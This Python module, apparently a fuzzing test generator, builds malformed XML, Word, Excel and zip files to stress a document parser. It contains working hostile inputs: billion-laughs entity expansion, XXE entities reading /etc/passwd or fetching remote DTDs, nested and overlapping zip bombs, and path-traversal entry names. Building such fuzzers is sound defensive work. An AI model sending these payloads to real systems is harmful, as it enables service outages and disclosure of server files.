"""Zip files, Word and Excel files that hurt, by structure: bombs, entries without number, damaged streams, XML that is deep or refers out."""

from __future__ import annotations

import io
import random
import re
import struct
import warnings
import zipfile

_WORD = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>%s</w:body></w:document>'
_PARAGRAPH = "<w:p><w:r><w:t>1. Ratify the Convention (France);</w:t></w:r></w:p>"
_TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
_LAUGHS = '<!DOCTYPE x [<!ENTITY a "' + "ha" * 50 + '">' + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)) + "]>"
_DOCTYPES = (
    _LAUGHS,
    '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///dev/zero">]>',
    '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd"> %p;]>',
    '<!DOCTYPE x SYSTEM "http://192.0.2.1/x.dtd">',
    '<!DOCTYPE x [<!ENTITY a "' + "x" * 500_000 + '">]>',
    "<!DOCTYPE x [" + '<!ATTLIST x a CDATA "x">' * 50_000 + "]>",
    '<?xml version="1.0" encoding="UTF-7"?>',
    '<?xml version="1.1" encoding="x"?>',
)


def xml(draw: random.Random) -> bytes:
    """XML that is deep, wide, refers to other files or to itself."""
    match draw.randrange(6):
        case 0:
            return (draw.choice(_DOCTYPES) + "<x>&a;&j;</x>").encode()
        case 1:
            depth = draw.choice([100, 5000, 200_000])
            return b"<x>" * depth + b"text" + b"</x>" * draw.choice([0, depth])
        case 2:
            return b"<x " + b"".join(b'a%d="1" ' % n for n in range(draw.choice([100, 50_000]))) + b"/>"
        case 3:
            return b"<x>" + b"<y/>" * draw.choice([1000, 500_000]) + b"</x>"
        case 4:
            return b"<x " + b"".join(b'xmlns:n%d="u" ' % n for n in range(20_000)) + b"><n1:y/></x>"
        case _:
            return (
                b'<?xml version="1.0"?><x>'
                + draw.choice([b"&#0;", b"&#xD800;", b"\xff\xfe", b"]]>", b"<![CDATA[" + b"x" * 2_000_000, b"<!--" * 9999])
                + b"</x>"
            )


def _pack(entries: list[tuple[str, bytes]], how: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # of names that are there twice
        with zipfile.ZipFile(out, "w", how) as archive:
            for name, data in entries:
                archive.writestr(zipfile.ZipInfo(name), data, how)
    return out.getvalue()


def docx(draw: random.Random) -> bytes:
    """A Word file that no program for documents has made."""
    body, parts, before = _PARAGRAPH, [], ""
    match draw.randrange(12):
        case 0:
            body = "<w:p>" + "<w:r><w:t>x</w:t></w:r>" * draw.choice([1000, 200_000]) + "</w:p>"
        case 1:
            opening, closing = draw.choice(
                [("<w:p>", "</w:p>"), ("<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"), ("<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>")]
            )
            depth = draw.choice([20, 200, 5000, 50_000])
            body = opening * depth + _PARAGRAPH + closing * depth
        case 2:
            before, body = draw.choice(_DOCTYPES), "<w:p><w:r><w:t>&a;&j;</w:t></w:r></w:p>"
        case 3:
            body = " " * draw.choice([10_000_000, 100_000_000]) + _PARAGRAPH
        case 4:
            span = draw.choice([0, -1, 2**31, 10**30])
            body = f'<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="{span}"/></w:tcPr>{_PARAGRAPH}</w:tc></w:tr></w:tbl>'
        case 5:
            body = f"<w:p><w:r><w:t>{'1. ' + draw.choice(['a', 'a ', '(', 'France; ', '140.1, ', '  x']) * 400_000}</w:t></w:r></w:p>"
        case 6:
            many = draw.choice([1000, 70_000])
            parts = [(f"word/x{number}.xml", b"") for number in range(many)]
        case 7:
            chain = "".join(f'<w:style w:styleId="s{n}"><w:basedOn w:val="s{(n + 1) % 3000}"/></w:style>' for n in range(3000))
            parts = [
                ("word/styles.xml", f'<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">{chain}</w:styles>'.encode())
            ]
            body = '<w:p><w:pPr><w:pStyle w:val="s0"/></w:pPr><w:r><w:t>1. Ratify</w:t></w:r></w:p>'
        case 8:
            parts = [("word/footnotes.xml", xml(draw)), ("word/numbering.xml", xml(draw)), ("../../outside/evil.xml", b"x"), ("/etc/evil", b"x")]
        case 9:
            parts = [("word/document.xml", b"<x/>"), ("WORD/DOCUMENT.XML", b"<y/>"), ("word/vbaProject.bin", b"x"), ("word/embeddings/a.exe", b"MZ")]
        case 10:
            return zipped(draw)
    main = (before + _WORD % body).encode("utf-8", "surrogatepass")
    made = _pack([("[Content_Types].xml", _TYPES.encode()), ("word/document.xml", main), *parts])
    return _wrong(bytearray(made), draw) if draw.random() < 0.25 else made


def xlsx(draw: random.Random) -> bytes:
    """A workbook that no spreadsheet has made."""
    ns = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    cells = '<row r="1"><c r="A1" t="inlineStr"><is><t>text</t></is></c></row>'
    match draw.randrange(6):
        case 0:
            row, cell = draw.choice([0, 1048576, 2**32, 10**30]), draw.choice(["XFD1048576", "ZZZZZZ1", "A99999999999", ""])
            cells += f'<row r="{row}"><c r="{cell}"><v>1</v></c></row>'
        case 1:
            cells += "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>{draw.choice([0, -1, 2**40])}</v></c></row>' for n in range(2, 2000))
        case 2:
            cells += f'<row r="2"><c r="A2" t="inlineStr"><is><t>{"Ratify " * draw.choice([10, 300_000])}</t></is></c></row>'
        case 3:
            cells += '<row r="2">' + '<c r="A2"><f>1+1</f></c>' * draw.choice([10, 300_000]) + "</row>"
        case 4:
            return zipped(draw)
        case _:
            cells += xml(draw).decode("latin-1")
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    book = f'<workbook xmlns="{ns}" xmlns:r="{rel}"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>'
    package = "http://schemas.openxmlformats.org/package/2006/relationships"
    to = draw.choice(["worksheets/sheet1.xml"] * 4 + ["../../../etc/passwd", "http://192.0.2.1/x"])
    rels = f'<Relationships xmlns="{package}"><Relationship Id="rId1" Type="{rel}/worksheet" Target="{to}"/></Relationships>'
    first = f'<Relationships xmlns="{package}"><Relationship Id="rId1" Type="{rel}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
    sheet = f'<worksheet xmlns="{ns}"><sheetData>{cells}</sheetData></worksheet>'
    names = {
        "[Content_Types].xml": _TYPES,
        "_rels/.rels": first,
        "xl/workbook.xml": book,
        "xl/_rels/workbook.xml.rels": rels,
        "xl/worksheets/sheet1.xml": sheet,
    }
    made = _pack([(name, text.encode("utf-8", "surrogatepass")) for name, text in names.items()])
    return _wrong(bytearray(made), draw) if draw.random() < 0.25 else made


def zipped(draw: random.Random) -> bytes:
    """A zip file: a bomb, one inside another, many entries, another way of packing."""
    match draw.randrange(6):
        case 0:
            return _pack([("word/document.xml", bytes(draw.choice([10**7, 10**8])))])
        case 1:
            inside = _pack([("a", bytes(10**7))] * 10)
            for _ in range(3):
                inside = _pack([(f"{n}.zip", inside) for n in range(10)])
            return inside
        case 2:
            how = draw.choice([zipfile.ZIP_LZMA, zipfile.ZIP_BZIP2, zipfile.ZIP_STORED])
            return _wrong(bytearray(_pack([("word/document.xml", (_WORD % _PARAGRAPH).encode() * 50), ("mimetype", b"x")], how)), draw)
        case 3:
            return _pack([(draw.choice(["../x", "/x", "a" * 60_000, "\n", "\u202e", "x/" * 5000, "word/document.xml"]), b"x") for _ in range(300)])
        case 4:
            made = bytearray(_pack([("a", b"x")]))
            made[-14:-10] = struct.pack("<HH", 65535, 65535)
            return bytes(made)
        case _:
            overlapping = _pack([("a", bytes(10**6))])
            at = overlapping.index(b"PK\x01\x02")
            entry = overlapping[at : overlapping.index(b"PK\x05\x06")]
            many = 60_000
            end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, many, many, len(entry) * many, at, 0)
            return overlapping[:at] + entry * many + end


def _wrong(data: bytearray, draw: random.Random) -> bytes:
    """A stream, checksum, size, way of packing, flag or place is wrong."""
    match draw.randrange(3):
        case 0:
            at = [match.start() for match in re.finditer(rb"PK\x03\x04", data)]
            begin = draw.choice(at) + 60
            for place in range(begin, min(begin + draw.choice([1, 20, 200]), len(data))):
                data[place] = draw.randrange(256)
        case 1:
            begin = data.index(b"PK\x01\x02")
            field, size = draw.choice([(8, 2), (10, 2), (16, 4), (20, 4), (24, 4), (28, 2), (42, 4)])
            data[begin + field : begin + field + size] = draw.choice([0, 1, 9, 12, 14, 98, 2**16 - 1, 2**32 - 1]).to_bytes(8, "little")[:size]
        case _:
            del data[draw.randrange(4, len(data)) :]
    return bytes(data)
